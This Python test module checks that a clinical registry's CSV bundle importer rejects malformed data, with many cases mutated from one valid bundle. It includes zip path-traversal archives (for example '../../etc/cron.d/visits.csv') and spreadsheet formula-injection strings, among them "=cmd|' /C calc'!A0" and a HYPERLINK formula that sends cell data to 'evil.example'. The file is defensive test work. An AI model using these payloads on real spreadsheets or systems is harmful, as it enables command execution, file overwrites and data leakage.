"""A corpus of malformed dataset bundles ("Trustworthy data", bad input).

Every case starts from one valid bundle (``BASE``) and breaks one cell, row, column or file.
For each case the importer must:

- return (never raise) with an error ``file:row:column: message`` at the expected place: the
  column when a cell or a header is wrong, the row alone (column "") when the row's shape is
  wrong, the file alone (no row) when the file cannot be read, the bundle when the container is
  refused;
- write nothing: row counts of every model and of its audit history, and every row's values,
  are as before (the registry already holds center A's patient and episode).

Decision on spreadsheet formulas ("formula injection", ``=cmd|' /C calc'!A0``) in free text: a
bundle is data, so the importer stores such text exactly as given, neither refused nor altered
(altering it would break ``import(export(db)) == db``). Neutralising formulas is the job of
whatever writes a spreadsheet for a human (the exporter), not of the importer.
``test_formula_like_free_text_is_stored_verbatim`` holds the importer to that.
"""
from __future__ import annotations

import copy
import csv
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date, timedelta
from pathlib import Path

import pytest

from registry.clinical.models import AdverseEvent
from registry.datasets.columns import FILE_NAMES
from registry.datasets.importer import import_bundle
from tests.badinput.snapshots import row_counts, row_values

pytestmark = pytest.mark.django_db

FUTURE = (date.today() + timedelta(days=2)).isoformat()

#: A small valid bundle. Row n of a file (counting the header as row 1) is rows[n - 2].
BASE = {
    "centers.csv": [
        {"center_code": "fr-nte", "name": "CHU de Nantes", "country": "FR"},
        {"center_code": "es-grx", "name": "Hospital San Cecilio", "country": "ES"},
    ],
    "lab_ranges.csv": [
        {"center_code": "fr-nte", "analyte": "ldl", "lower": "", "upper": "3.4"},
        {"center_code": "fr-nte", "analyte": "lymphocytes", "lower": "1.0", "upper": "4.0"},
    ],
    "patients.csv": [
        {
            "patient_code": "fr-nte-0001", "center_code": "fr-nte", "sex": "female",
            "birth_year": "1985", "height_cm": "165.0", "weight_kg": "60.5", "ad_onset_age": "3",
            "ad_subtype": "generalized", "special_areas": "hands;face_neck",
            "atopic_comorbidities": "asthma;rhinitis", "autoimmune_comorbidities": "",
            "cv_risk_factors": "smoking", "neoplasia_last_5y": "", "enrolled_on": "2024-01-10",
        },
        {
            "patient_code": "fr-nte-0002", "center_code": "fr-nte", "sex": "male",
            "birth_year": "1990", "enrolled_on": "2024-02-01",
        },
        {
            "patient_code": "es-grx-0001", "center_code": "es-grx", "sex": "female",
            "birth_year": "2001", "ad_subtype": "flexural", "autoimmune_comorbidities": "vitiligo",
            "enrolled_on": "2023-06-15",
        },
    ],
    "prior_treatments.csv": [
        {"patient_code": "fr-nte-0001", "drug": "ciclosporin", "start_date": "2020-01-01",
         "end_date": "2020-06-30", "stop_reason": "adverse_event"},
        {"patient_code": "fr-nte-0001", "drug": "dupilumab", "stop_reason": "secondary_failure"},
    ],
    "episodes.csv": [
        {"episode_code": "fr-nte-0001-e1", "patient_code": "fr-nte-0001", "drug": "upadacitinib",
         "start_date": "2024-01-10", "start_dose_mg": "30", "end_date": "", "end_reason": ""},
        {"episode_code": "fr-nte-0002-e1", "patient_code": "fr-nte-0002", "drug": "dupilumab",
         "start_date": "2024-02-01", "start_dose_mg": "300", "end_date": "2024-08-01",
         "end_reason": "secondary_failure"},
    ],
    # Out of date order on purpose: the de-escalation is listed before the escalation.
    "dose_changes.csv": [
        {"episode_code": "fr-nte-0001-e1", "date": "2024-09-01", "dose_mg": "30", "reason": "disease_control"},
        {"episode_code": "fr-nte-0001-e1", "date": "2024-05-01", "dose_mg": "45", "reason": "secondary_failure"},
    ],
    "visits.csv": [
        {"patient_code": "fr-nte-0001", "date": "2024-01-10", "iga": "3", "easi": "24.5",
         "scorad": "55.2", "bsa": "30.5", "pruritus_nrs": "8", "sleep_nrs": "6", "dlqi": "15",
         "poem": "20", "ldl": "2.9", "alt": "25", "cpk": "120", "platelets": "250",
         "aesi_acne": "no"},
        {"patient_code": "fr-nte-0001", "date": "2024-04-10", "iga": "1", "easi": "8.2",
         "aesi_acne": "yes"},
        {"patient_code": "fr-nte-0002", "date": "2024-02-01", "iga": "4", "easi": "30", "ldl": "3.1"},
    ],
    "adverse_events.csv": [
        {"patient_code": "fr-nte-0001", "episode_code": "", "term": "acne",
         "onset_date": "2024-04-01", "end_date": "2024-04-20", "severity": "mild",
         "serious": "no", "action": "none", "outcome": "resolved",
         "description": "Papulopustular, face and neck."},
        {"patient_code": "fr-nte-0002", "episode_code": "fr-nte-0002-e1", "term": "herpes_simplex",
         "onset_date": "2024-08-20", "severity": "moderate", "outcome": "ongoing"},
    ],
}


# Building a bundle ----------------------------------------------------------------------------

def write_csv(path, rows, header=None):
    header = header or list(dict.fromkeys(key for row in rows for key in row))
    with open(path, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        for row in rows:
            writer.writerow([row.get(column, "") for column in header])


def write_folder(folder: Path, files) -> Path:
    folder.mkdir()
    for name, rows in files.items():
        write_csv(folder / name, rows)
    return folder


def zip_of(path: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data)
    return path


def csv_bytes(rows) -> bytes:
    import io

    out = io.StringIO()
    header = list(dict.fromkeys(key for row in rows for key in row))
    writer = csv.writer(out)
    writer.writerow(header)
    for row in rows:
        writer.writerow([row.get(column, "") for column in header])
    return out.getvalue().encode("utf-8")


# Mutations: each returns a function that changes the rows (or the written files) ---------------

def cell(file, row, column, value):
    """Set one cell; ``row`` counts like a spreadsheet (the header is row 1)."""

    def mutate(files):
        files[file][row - 2][column] = value

    return mutate


def cells(*mutations):
    def mutate(files):
        for mutation in mutations:
            mutation(files)

    return mutate


def append(file, row):
    def mutate(files):
        files[file].append(dict(row))

    return mutate


def duplicate(file, row):
    def mutate(files):
        files[file].append(dict(files[file][row - 2]))

    return mutate


def drop_column(file, column):
    def mutate(files):
        for row in files[file]:
            row.pop(column, None)

    return mutate


def raw(file, text: bytes):
    """Replace the file's bytes once written."""

    def after(folder: Path):
        (folder / file).write_bytes(text)

    return after


def edit_raw(file, change: Callable[[bytes], bytes]):
    def after(folder: Path):
        path = folder / file
        path.write_bytes(change(path.read_bytes()))

    return after


@dataclass(frozen=True)
class ImportCase:
    id: str
    #: (file, row, column) of the error the case must produce: ``row`` None for the whole
    #: file, ``column`` "" for the whole row; file "" for the bundle.
    expect: tuple
    mutate: Callable | None = None
    after_write: Callable | None = None
    #: Build a zip instead: tmp_path -> path of the zip.
    build_zip: Callable | None = None


def C(id, expect, mutate=None, after_write=None, build_zip=None):
    return ImportCase(id, expect, mutate, after_write, build_zip)


def traversal_zip(names):
    """A zip of the valid bundle whose members are called ``names[file]`` (default: the file
    in a ``bundle/`` folder)."""

    def build(tmp_path):
        members = {}
        for file, rows in BASE.items():
            members[names.get(file, f"bundle/{file}")] = csv_bytes(rows)
        for name in names:
            if name not in BASE:
                members[name] = names[name]
        return zip_of(tmp_path / "bundle.zip", members)

    return build


def score_cases():
    cases = []
    for code, low, high in [("iga", 0, 4), ("easi", 0, 72), ("scorad", 0, 103), ("bsa", 0, 100),
                            ("pruritus_nrs", 0, 10), ("sleep_nrs", 0, 10), ("dlqi", 0, 30),
                            ("poem", 0, 28)]:
        cases.append(C(f"visits-{code}-above-max", ("visits.csv", 2, code), cell("visits.csv", 2, code, str(high + 1))))
        cases.append(C(f"visits-{code}-negative", ("visits.csv", 2, code), cell("visits.csv", 2, code, "-1")))
    return cases


CASES = [
    # Header and shape -------------------------------------------------------------------------
    C("centers-unknown-column", ("centers.csv", 1, "centre_name"), append("centers.csv", {"center_code": "fr-bdx", "name": "CHU", "centre_name": "x"})),
    C("visits-unknown-column-typo", ("visits.csv", 1, "eazi"), cell("visits.csv", 2, "eazi", "12")),
    C("visits-unknown-checklist-term", ("visits.csv", 1, "aesi_sneeze"), cell("visits.csv", 2, "aesi_sneeze", "yes")),
    C("patients-missing-required-column", ("patients.csv", 1, "sex"), drop_column("patients.csv", "sex")),
    C("episodes-missing-required-column", ("episodes.csv", 1, "start_date"), drop_column("episodes.csv", "start_date")),
    C("visits-column-given-twice", ("visits.csv", 1, "easi"),
      after_write=raw("visits.csv", b"patient_code,date,easi,easi\r\nfr-nte-0001,2024-01-10,24.5,24.5\r\n")),
    C("visits-missing-header", ("visits.csv", 1, "fr-nte-0001"),
      after_write=edit_raw("visits.csv", lambda b: b.split(b"\r\n", 1)[1])),
    C("patients-empty-file", ("patients.csv", 1, "patient_code"), after_write=raw("patients.csv", b"")),
    C("visits-row-with-too-many-cells", ("visits.csv", 3, ""),
      after_write=raw("visits.csv", b"patient_code,date,easi\r\nfr-nte-0001,2024-01-10,24.5\r\nfr-nte-0001,2024-04-10,8.2,extra\r\n")),
    C("visits-row-with-too-few-cells", ("visits.csv", 4, ""),
      after_write=raw("visits.csv", b"patient_code,date,easi\r\nfr-nte-0001,2024-01-10,24.5\r\nfr-nte-0001,2024-04-10,8.2\r\nfr-nte-0002,2024-02-01\r\n")),
    C("visits-not-utf8", ("visits.csv", None, ""),
      after_write=edit_raw("visits.csv", lambda b: b.replace(b"2024-04-10", "2024-04-10".encode() + "é".encode("latin-1"), 1))),
    C("adverse-events-unterminated-quote", ("adverse_events.csv", 3, ""),
      after_write=edit_raw("adverse_events.csv", lambda b: b.rstrip(b"\r\n") + b',"never closed\r\n')),
    C("adverse-events-nul-byte-in-description", ("adverse_events.csv", 2, "description"),
      cell("adverse_events.csv", 2, "description", "rash\x00face")),
    # centers.csv --------------------------------------------------------------------------------
    C("centers-country-not-iso", ("centers.csv", 2, "country"), cell("centers.csv", 2, "country", "France")),
    C("centers-country-lower-case", ("centers.csv", 3, "country"), cell("centers.csv", 3, "country", "es")),
    C("centers-name-empty", ("centers.csv", 2, "name"), cell("centers.csv", 2, "name", "")),
    C("centers-code-not-a-slug", ("centers.csv", 3, "center_code"), cell("centers.csv", 3, "center_code", "ES GRX")),
    C("centers-duplicate-code", ("centers.csv", 4, "center_code"), duplicate("centers.csv", 2)),
    # lab_ranges.csv -----------------------------------------------------------------------------
    C("lab-ranges-unknown-analyte", ("lab_ranges.csv", 2, "analyte"), cell("lab_ranges.csv", 2, "analyte", "glucose")),
    C("lab-ranges-negative-limit", ("lab_ranges.csv", 3, "lower"), cell("lab_ranges.csv", 3, "lower", "-1")),
    C("lab-ranges-text-limit", ("lab_ranges.csv", 2, "upper"), cell("lab_ranges.csv", 2, "upper", "high")),
    C("lab-ranges-nan-limit", ("lab_ranges.csv", 2, "upper"), cell("lab_ranges.csv", 2, "upper", "NaN")),
    C("lab-ranges-unknown-center", ("lab_ranges.csv", 2, "center_code"), cell("lab_ranges.csv", 2, "center_code", "fr-xxx")),
    # patients.csv -------------------------------------------------------------------------------
    C("patients-sex-unknown", ("patients.csv", 2, "sex"), cell("patients.csv", 2, "sex", "x")),
    C("patients-sex-capitalised", ("patients.csv", 3, "sex"), cell("patients.csv", 3, "sex", "Male")),
    C("patients-comorbidity-gout", ("patients.csv", 2, "atopic_comorbidities"), cell("patients.csv", 2, "atopic_comorbidities", "asthma;gout")),
    C("patients-special-area-unknown", ("patients.csv", 2, "special_areas"), cell("patients.csv", 2, "special_areas", "hands;feet")),
    C("patients-cv-risk-twice", ("patients.csv", 2, "cv_risk_factors"), cell("patients.csv", 2, "cv_risk_factors", "smoking;smoking")),
    C("patients-neoplasia-unknown", ("patients.csv", 2, "neoplasia_last_5y"), cell("patients.csv", 2, "neoplasia_last_5y", "wart")),
    C("patients-subtype-unknown", ("patients.csv", 2, "ad_subtype"), cell("patients.csv", 2, "ad_subtype", "eczema")),
    C("patients-birth-year-1850", ("patients.csv", 2, "birth_year"), cell("patients.csv", 2, "birth_year", "1850")),
    C("patients-birth-year-after-enrolment", ("patients.csv", 2, "birth_year"), cell("patients.csv", 2, "birth_year", "2030")),
    C("patients-birth-year-text", ("patients.csv", 2, "birth_year"), cell("patients.csv", 2, "birth_year", "nineteen")),
    C("patients-height-below", ("patients.csv", 2, "height_cm"), cell("patients.csv", 2, "height_cm", "49")),
    C("patients-weight-above", ("patients.csv", 2, "weight_kg"), cell("patients.csv", 2, "weight_kg", "401")),
    C("patients-weight-negative", ("patients.csv", 2, "weight_kg"), cell("patients.csv", 2, "weight_kg", "-60")),
    C("patients-onset-age-above", ("patients.csv", 2, "ad_onset_age"), cell("patients.csv", 2, "ad_onset_age", "121")),
    C("patients-enrolled-in-the-future", ("patients.csv", 2, "enrolled_on"), cell("patients.csv", 2, "enrolled_on", FUTURE)),
    C("patients-enrolled-feb-30", ("patients.csv", 2, "enrolled_on"), cell("patients.csv", 2, "enrolled_on", "2024-02-30")),
    C("patients-enrolled-day-first", ("patients.csv", 2, "enrolled_on"), cell("patients.csv", 2, "enrolled_on", "31/12/2024")),
    C("patients-enrolled-unpadded", ("patients.csv", 2, "enrolled_on"), cell("patients.csv", 2, "enrolled_on", "2024-1-10")),
    C("patients-unknown-center", ("patients.csv", 3, "center_code"), cell("patients.csv", 3, "center_code", "fr-xxx")),
    C("patients-duplicate-code", ("patients.csv", 5, "patient_code"), duplicate("patients.csv", 3)),
    C("patients-code-empty", ("patients.csv", 4, "patient_code"), cell("patients.csv", 4, "patient_code", "")),
    # prior_treatments.csv -----------------------------------------------------------------------
    C("prior-drug-aspirin", ("prior_treatments.csv", 2, "drug"), cell("prior_treatments.csv", 2, "drug", "aspirin")),
    C("prior-end-before-start", ("prior_treatments.csv", 2, "end_date"), cell("prior_treatments.csv", 2, "end_date", "2019-12-31")),
    C("prior-stop-reason-bored", ("prior_treatments.csv", 3, "stop_reason"), cell("prior_treatments.csv", 3, "stop_reason", "bored")),
    C("prior-start-in-the-future", ("prior_treatments.csv", 3, "start_date"), cell("prior_treatments.csv", 3, "start_date", FUTURE)),
    C("prior-unknown-patient", ("prior_treatments.csv", 2, "patient_code"), cell("prior_treatments.csv", 2, "patient_code", "fr-nte-9999")),
    # episodes.csv -------------------------------------------------------------------------------
    C("episodes-drug-aspirin", ("episodes.csv", 2, "drug"), cell("episodes.csv", 2, "drug", "aspirin")),
    C("episodes-start-in-the-future", ("episodes.csv", 2, "start_date"), cell("episodes.csv", 2, "start_date", FUTURE)),
    C("episodes-start-month-13", ("episodes.csv", 2, "start_date"), cell("episodes.csv", 2, "start_date", "2024-13-01")),
    C("episodes-start-empty", ("episodes.csv", 3, "start_date"), cell("episodes.csv", 3, "start_date", "")),
    C("episodes-dose-zero", ("episodes.csv", 2, "start_dose_mg"), cell("episodes.csv", 2, "start_dose_mg", "0")),
    C("episodes-dose-negative", ("episodes.csv", 2, "start_dose_mg"), cell("episodes.csv", 2, "start_dose_mg", "-15")),
    C("episodes-dose-text", ("episodes.csv", 2, "start_dose_mg"), cell("episodes.csv", 2, "start_dose_mg", "fifteen")),
    C("episodes-dose-1e400", ("episodes.csv", 2, "start_dose_mg"), cell("episodes.csv", 2, "start_dose_mg", "1e400")),
    C("episodes-end-before-start", ("episodes.csv", 3, "end_date"), cell("episodes.csv", 3, "end_date", "2024-01-31")),
    C("episodes-end-reason-without-end-date", ("episodes.csv", 2, "end_reason"), cell("episodes.csv", 2, "end_reason", "disease_control")),
    C("episodes-end-date-without-end-reason", ("episodes.csv", 3, "end_reason"), cell("episodes.csv", 3, "end_reason", "")),
    C("episodes-end-reason-bored", ("episodes.csv", 3, "end_reason"), cell("episodes.csv", 3, "end_reason", "bored")),
    C("episodes-unknown-patient", ("episodes.csv", 3, "patient_code"), cell("episodes.csv", 3, "patient_code", "fr-nte-9999")),
    C("episodes-duplicate-code", ("episodes.csv", 4, "episode_code"), duplicate("episodes.csv", 2)),
    # dose_changes.csv ---------------------------------------------------------------------------
    C("dose-changes-on-the-start-day", ("dose_changes.csv", 3, "date"), cell("dose_changes.csv", 3, "date", "2024-01-10")),
    C("dose-changes-before-the-start", ("dose_changes.csv", 3, "date"), cell("dose_changes.csv", 3, "date", "2023-12-01")),
    C("dose-changes-after-the-end", ("dose_changes.csv", 4, "date"),
      append("dose_changes.csv", {"episode_code": "fr-nte-0002-e1", "date": "2024-09-01", "dose_mg": "600"})),
    C("dose-changes-equal-to-dose-in-force", ("dose_changes.csv", 3, "dose_mg"), cell("dose_changes.csv", 3, "dose_mg", "30")),
    C("dose-changes-unknown-episode", ("dose_changes.csv", 4, "episode_code"),
      append("dose_changes.csv", {"episode_code": "fr-nte-0009-e1", "date": "2024-03-01", "dose_mg": "15"})),
    C("dose-changes-reason-bored", ("dose_changes.csv", 2, "reason"), cell("dose_changes.csv", 2, "reason", "bored")),
    C("dose-changes-dose-zero", ("dose_changes.csv", 2, "dose_mg"), cell("dose_changes.csv", 2, "dose_mg", "0")),
    C("dose-changes-dose-empty", ("dose_changes.csv", 2, "dose_mg"), cell("dose_changes.csv", 2, "dose_mg", "")),
    C("dose-changes-duplicate-day", ("dose_changes.csv", 4, "date"),
      append("dose_changes.csv", {"episode_code": "fr-nte-0001-e1", "date": "2024-05-01", "dose_mg": "15"})),
    C("dose-changes-in-the-future", ("dose_changes.csv", 2, "date"), cell("dose_changes.csv", 2, "date", FUTURE)),
    # visits.csv ---------------------------------------------------------------------------------
    *score_cases(),
    C("visits-easi-two-decimals", ("visits.csv", 2, "easi"), cell("visits.csv", 2, "easi", "10.25")),
    C("visits-iga-not-an-integer", ("visits.csv", 3, "iga"), cell("visits.csv", 3, "iga", "2.5")),
    C("visits-scorad-nan", ("visits.csv", 2, "scorad"), cell("visits.csv", 2, "scorad", "NaN")),
    C("visits-bsa-infinity", ("visits.csv", 2, "bsa"), cell("visits.csv", 2, "bsa", "Infinity")),
    C("visits-ldl-negative", ("visits.csv", 2, "ldl"), cell("visits.csv", 2, "ldl", "-0.1")),
    C("visits-alt-text", ("visits.csv", 2, "alt"), cell("visits.csv", 2, "alt", "high")),
    C("visits-cpk-nan", ("visits.csv", 2, "cpk"), cell("visits.csv", 2, "cpk", "NaN")),
    C("visits-platelets-1e400", ("visits.csv", 2, "platelets"), cell("visits.csv", 2, "platelets", "1e400")),
    C("visits-checklist-maybe", ("visits.csv", 2, "aesi_acne"), cell("visits.csv", 2, "aesi_acne", "maybe")),
    C("visits-in-the-future", ("visits.csv", 3, "date"), cell("visits.csv", 3, "date", FUTURE)),
    C("visits-feb-30", ("visits.csv", 3, "date"), cell("visits.csv", 3, "date", "2024-02-30")),
    C("visits-date-empty", ("visits.csv", 3, "date"), cell("visits.csv", 3, "date", "")),
    C("visits-duplicate-patient-and-date", ("visits.csv", 5, "date"),
      append("visits.csv", {"patient_code": "fr-nte-0001", "date": "2024-04-10", "easi": "9.0"})),
    C("visits-unknown-patient", ("visits.csv", 4, "patient_code"), cell("visits.csv", 4, "patient_code", "fr-nte-9999")),
    # adverse_events.csv -------------------------------------------------------------------------
    C("adverse-events-term-sneeze", ("adverse_events.csv", 2, "term"), cell("adverse_events.csv", 2, "term", "sneeze")),
    C("adverse-events-onset-in-the-future", ("adverse_events.csv", 2, "onset_date"),
      cells(cell("adverse_events.csv", 2, "onset_date", FUTURE), cell("adverse_events.csv", 2, "end_date", ""))),
    C("adverse-events-end-before-onset", ("adverse_events.csv", 2, "end_date"), cell("adverse_events.csv", 2, "end_date", "2024-03-31")),
    C("adverse-events-unknown-episode", ("adverse_events.csv", 2, "episode_code"), cell("adverse_events.csv", 2, "episode_code", "fr-nte-0001-e9")),
    C("adverse-events-episode-of-another-patient", ("adverse_events.csv", 2, "episode_code"),
      cell("adverse_events.csv", 2, "episode_code", "fr-nte-0002-e1")),
    C("adverse-events-onset-outside-its-episode", ("adverse_events.csv", 3, "onset_date"),
      cell("adverse_events.csv", 3, "onset_date", "2024-09-15")),
    C("adverse-events-severity-extreme", ("adverse_events.csv", 2, "severity"), cell("adverse_events.csv", 2, "severity", "extreme")),
    C("adverse-events-serious-maybe", ("adverse_events.csv", 2, "serious"), cell("adverse_events.csv", 2, "serious", "maybe")),
    C("adverse-events-action-unknown", ("adverse_events.csv", 2, "action"), cell("adverse_events.csv", 2, "action", "amputated")),
    C("adverse-events-outcome-unknown", ("adverse_events.csv", 2, "outcome"), cell("adverse_events.csv", 2, "outcome", "cured")),
    C("adverse-events-description-100k", ("adverse_events.csv", 2, "description"),
      cell("adverse_events.csv", 2, "description", "x" * 100_000)),
    C("adverse-events-unknown-patient", ("adverse_events.csv", 3, "patient_code"), cell("adverse_events.csv", 3, "patient_code", "fr-nte-9999")),
    C("adverse-events-duplicate", ("adverse_events.csv", 4, "onset_date"), duplicate("adverse_events.csv", 2)),
    # Zip containers -----------------------------------------------------------------------------
    C("zip-parent-folder-traversal", ("", None, ""), build_zip=traversal_zip({f: f"../{f}" for f in BASE})),
    C("zip-deep-traversal-beside-a-valid-bundle", ("", None, ""),
      build_zip=traversal_zip({"../../etc/cron.d/visits.csv": b"patient_code,date\n"})),
    C("zip-absolute-path", ("", None, ""), build_zip=traversal_zip({"patients.csv": "/tmp/bundle/patients.csv"})),
    C("zip-windows-traversal", ("", None, ""),
      build_zip=traversal_zip({"..\\..\\visits.csv": b"patient_code,date\n"})),
]


# The tests ------------------------------------------------------------------------------------

@pytest.fixture
def registry(center_a, patient_a, episode_a):
    """The registry already holds center A's patient and episode: 'nothing written' is then
    checked against existing rows too."""
    return {"center": center_a, "patient": patient_a, "episode": episode_a}


def build(case, tmp_path):
    if case.build_zip:
        return case.build_zip(tmp_path)
    files = copy.deepcopy(BASE)
    if case.mutate:
        case.mutate(files)
    folder = write_folder(tmp_path / "bundle", files)
    if case.after_write:
        case.after_write(folder)
    return folder


def test_the_corpus_is_large_and_every_id_is_unique():
    ids = [c.id for c in CASES]
    assert len(ids) == len(set(ids))
    assert len(CASES) >= 60


def test_the_base_bundle_imports_cleanly(tmp_path, registry):
    """The corpus starts from a valid bundle: each case fails for the one thing it breaks."""
    before = row_counts()
    result = import_bundle(write_folder(tmp_path / "bundle", BASE))
    assert [str(e) for e in result.errors] == []
    assert result.written and row_counts() != before
    # The zip container of the corpus is valid too, with safe names.
    result = import_bundle(traversal_zip({})(tmp_path))
    assert [str(e) for e in result.errors] == []


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_malformed_bundle_is_refused_at_the_right_place_and_writes_nothing(tmp_path, registry, case):
    path = build(case, tmp_path)
    counts, values = row_counts(), row_values()

    result = import_bundle(path)  # any exception fails the case

    found = {(error.file, error.row, error.column) for error in result.errors}
    lines = [str(error) for error in result.errors]
    assert case.expect in found, f"expected an error at {case.expect}; got {lines}"
    file, row, column = case.expect
    prefix = ":".join(str(part) for part in (file or "bundle", row, column) if part not in (None, ""))
    assert any(line.startswith(prefix + ": ") and len(line) > len(prefix) + 2 for line in lines), lines
    for error in result.errors:
        assert error.message.strip()
        assert error.file in ("", *FILE_NAMES)
    assert not result.ok and not result.written
    assert row_counts() == counts
    assert row_values() == values


FORMULAS = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1;2",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_free_text_is_stored_verbatim(tmp_path, registry, text):
    """Formula-looking free text is data: stored exactly, not refused, not altered."""
    files = copy.deepcopy(BASE)
    files["adverse_events.csv"][0]["description"] = text
    result = import_bundle(write_folder(tmp_path / "bundle", files))
    assert [str(e) for e in result.errors] == []
    assert AdverseEvent.objects.get(term="acne").description == text
